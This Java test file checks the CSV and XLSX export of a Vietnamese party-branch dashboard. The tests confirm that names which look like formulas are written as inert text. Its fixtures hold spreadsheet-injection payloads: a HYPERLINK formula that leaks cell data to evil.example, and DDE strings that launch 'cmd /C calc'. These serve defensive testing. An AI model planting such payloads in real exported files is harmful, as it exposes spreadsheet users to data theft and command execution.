package vn.chibo.pulse.dashboard;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.InputStreamReader;
import java.io.Reader;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;

/** GET /api/export: each table of the board as XLSX and CSV, read back, and names that look like formulas. */
class ExportTest extends BoardOnTheSmallProvince {

    /** Names a commune system might send, each of which a spreadsheet would run as a formula. */
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Xã Tùng Ảnh\")";
    private static final String CMD = "+cmd|' /C calc'!A0";
    private static final String SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String MINUS = "-2+3+cmd|' /C calc'!A0";

    private static DashboardServer server;

    @BeforeAll
    static void startOnItsHostileNames() throws Exception {
        province.execute(
                "insert into reporting.communes (commune_code, commune_name, district_code) values ('C666', '"
                        + HYPERLINK.replace("'", "''") + "', 'D07')",
                "insert into reporting.branches (branch_id, branch_name, commune_code, kind) values "
                        + "('B666', '" + CMD.replace("'", "''") + "', 'C666', 'VILLAGE'), "
                        + "('B667', '" + SUM.replace("'", "''") + "', 'C666', 'OTHER'), "
                        + "('B668', '" + MINUS.replace("'", "''") + "', 'C666', 'OTHER')",
                "insert into reporting.branch_current (branch_id, members_active, members_official, members_probationary,"
                        + " members_exempted) values ('B666', 5, 5, 0, 0), ('B667', 4, 4, 0, 0), ('B668', 3, 3, 0, 0)");
        server = board(Fixtures.streams());
    }

    @AfterAll
    static void stopTheBoard() throws Exception {
        if (server != null) {
            server.close();
        }
    }

    private static HttpResponse<byte[]> get(String query) throws Exception {
        return Http.CLIENT.send(HttpRequest.newBuilder(URI.create(server.url() + "api/export?" + query)).GET().build(),
                HttpResponse.BodyHandlers.ofByteArray());
    }

    private static byte[] body(String query) throws Exception {
        HttpResponse<byte[]> r = get(query);
        assertThat(r.statusCode()).as(new String(r.body(), StandardCharsets.UTF_8)).isEqualTo(200);
        return r.body();
    }

    private static List<CSVRecord> csv(byte[] bytes) throws Exception {
        assertThat(Arrays.copyOf(bytes, 3)).as("UTF-8 byte-order mark").containsExactly(0xEF, 0xBB, 0xBF);
        try (Reader in = new InputStreamReader(new ByteArrayInputStream(bytes, 3, bytes.length - 3), StandardCharsets.UTF_8);
             CSVParser parser = CSVFormat.EXCEL.parse(in)) {
            return parser.getRecords();
        }
    }

    private static XSSFWorkbook xlsx(byte[] bytes) throws Exception {
        return new XSSFWorkbook(new ByteArrayInputStream(bytes));
    }

    /** A sheet's rows from the headings down, each cell as Excel shows it (percentages as "93.1%"). */
    private static List<List<String>> shown(Sheet sheet) {
        DataFormatter format = new DataFormatter(java.util.Locale.ROOT);
        List<List<String>> out = new ArrayList<>();
        int columns = sheet.getRow(1).getLastCellNum();
        for (int r = 1; r <= sheet.getLastRowNum(); r++) {
            List<String> cells = new ArrayList<>();
            for (int c = 0; c < columns; c++) {
                Cell cell = sheet.getRow(r).getCell(c);
                cells.add(cell == null ? "" : format.formatCellValue(cell));
            }
            out.add(cells);
        }
        return out;
    }

    @Test
    void theCsvOfATableReadsBackAsItsWorkbookAndTheJsonSay() throws Exception {
        String view = "view=units&level=district&code=D07&month=2025-06";
        List<CSVRecord> csv = csv(body(view + "&format=csv"));
        List<List<String>> sheet;
        try (XSSFWorkbook wb = xlsx(body(view + "&format=xlsx"))) {
            assertThat(wb.getSheetAt(0).getRow(0).getCell(0).getStringCellValue())
                    .isEqualTo("Số liệu các đơn vị — Huyện Đức Thọ — tháng 06/2025");
            sheet = shown(wb.getSheetAt(0));
        }
        // the same headings and cells: a rate is a percentage with one decimal in both, and text that
        // looks like a formula carries CSV's apostrophe (no figure is negative, so only text starts so)
        assertThat(csv).hasSameSizeAs(sheet);
        for (int r = 0; r < csv.size(); r++) {
            assertThat(csv.get(r).toList()).as("row " + r).isEqualTo(sheet.get(r).stream()
                    .map(c -> c.endsWith("%") ? c.substring(0, c.length() - 1) : c.matches("[=+@-].*") ? "'" + c : c)
                    .toList());
        }
        assertThat(csv.get(0).toList()).startsWith("Đơn vị", "Mã đơn vị", "Cấp", "Tổng số đảng viên")
                .contains("Tỷ lệ dự họp (%)", "Điểm chất lượng bình quân", "Tốt (≥ 80)", "Khá (70–79)",
                        "Trung bình (50–69)", "Kém (< 50)", "Đảng viên có nguy cơ bị xóa tên");

        // every unit the page lists, with its name, then the district itself
        JsonNode page = Http.json(server.url() + "api/district?code=D07&month=2025-06");
        List<String> names = new ArrayList<>();
        page.path("children").forEach(c -> names.add(c.path("name").asText()));
        names.add("Huyện Đức Thọ");
        assertThat(csv.subList(1, csv.size()).stream().map(r -> r.get(0)).toList())
                .isEqualTo(names.stream().map(n -> n.equals(HYPERLINK) ? "'" + n : n).toList());
        CSVRecord tungAnh = csv.stream().filter(r -> r.get(1).equals("C001")).findFirst().orElseThrow();
        int attendance = csv.get(0).toList().indexOf("Tỷ lệ dự họp (%)");
        int members = csv.get(0).toList().indexOf("Tổng số đảng viên");
        try (java.sql.Connection c = province.database().connect(); java.sql.ResultSet rs = c.createStatement()
                .executeQuery("select members_active from reporting.commune_current where commune_code = 'C001'")) {
            rs.next();
            assertThat(tungAnh.get(members)).isEqualTo(String.valueOf(rs.getInt(1)));
        }
        assertThat(tungAnh.get(attendance)).isEqualTo("93.1"); // 54 of 58
    }

    @Test
    void namesThatLookLikeFormulasAreWrittenAsTextInCsvAndXlsx() throws Exception {
        String view = "view=watch-list&level=commune&code=C666&month=2025-06";
        List<CSVRecord> csv = csv(body(view + "&format=csv"));
        assertThat(csv.subList(1, csv.size()).stream().map(r -> r.get(0)))
                .containsExactlyInAnyOrder("'" + CMD, "'" + SUM, "'" + MINUS);
        assertThat(csv.subList(1, csv.size())).allSatisfy(r -> assertThat(r.get(2)).isEqualTo("'" + HYPERLINK));

        try (XSSFWorkbook wb = xlsx(body(view + "&format=xlsx"))) {
            Sheet sheet = wb.getSheetAt(0);
            List<String> names = new ArrayList<>();
            for (int r = 2; r <= sheet.getLastRowNum(); r++) {
                Row row = sheet.getRow(r);
                for (int c : new int[] {0, 2}) {
                    Cell cell = row.getCell(c);
                    assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                    assertThat(cell.getCellStyle().getQuotePrefixed()).as("quote-prefixed like typed text").isTrue();
                }
                assertThat(row.getCell(2).getStringCellValue()).isEqualTo(HYPERLINK);
                names.add(row.getCell(0).getStringCellValue());
            }
            assertThat(names).containsExactlyInAnyOrder(CMD, SUM, MINUS);
        }

        // the district's table names the commune as text too
        try (XSSFWorkbook wb = xlsx(body("view=units&level=district&code=D07&month=2025-06&format=xlsx"))) {
            Sheet sheet = wb.getSheetAt(0);
            boolean found = false;
            for (int r = 2; r <= sheet.getLastRowNum(); r++) {
                Cell name = sheet.getRow(r).getCell(0);
                assertThat(name.getCellType()).isEqualTo(CellType.STRING);
                found |= name.getStringCellValue().equals(HYPERLINK);
            }
            assertThat(found).isTrue();
        }
    }

    @Test
    void theWorkbookOfTheWholeViewHoldsEveryTableAndTheTrendHasTwelveMonths() throws Exception {
        try (XSSFWorkbook wb = xlsx(body("view=all&level=commune&code=C001&month=2025-06&format=xlsx"))) {
            assertThat(wb.getNumberOfSheets()).isEqualTo(4);
            assertThat(List.of(wb.getSheetName(0), wb.getSheetName(1), wb.getSheetName(2), wb.getSheetName(3)))
                    .containsExactly("Số liệu", "Cần chú ý", "Xu hướng", "Đánh giá, phân loại");
            Sheet trend = wb.getSheet("Xu hướng");
            assertThat(trend.getLastRowNum()).isEqualTo(1 + 12);
            assertThat(trend.getRow(13).getCell(1).getStringCellValue()).isEqualTo("06/2025");
            Sheet grades = wb.getSheet("Đánh giá, phân loại");
            assertThat(shown(grades).get(2)).containsExactly("Xã Tùng Ảnh", "2025", "Hoàn thành tốt nhiệm vụ", "20",
                    "100.0%", "40.0%"); // 20 graded good of 20 graded, of 50 active members
        }
    }

    @Test
    void aTableOrFormatTheBoardDoesNotHaveIsRefusedAndFileNamesAreSafe() throws Exception {
        assertThat(get("view=nope&format=csv").statusCode()).isEqualTo(400);
        assertThat(get("view=units&format=pdf").statusCode()).isEqualTo(400);
        assertThat(get("view=all&format=csv").statusCode()).isEqualTo(400);
        assertThat(get("format=csv").statusCode()).isEqualTo(400);
        assertThat(get("view=units&level=planet&format=csv").statusCode()).isEqualTo(400);
        assertThat(get("view=units&level=commune&code=NOPE&format=csv").statusCode()).isEqualTo(404);

        HttpResponse<byte[]> r = get("view=watch-list&level=commune&code=constructor&month=2025-06&format=csv");
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(r.headers().firstValue("Content-Type").orElseThrow()).isEqualTo("text/csv; charset=utf-8");
        assertThat(r.headers().firstValue("Content-Disposition").orElseThrow())
                .isEqualTo("attachment; filename=\"chibo-pulse_watch-list_commune-constructor_2025-06.csv\"");
    }
}
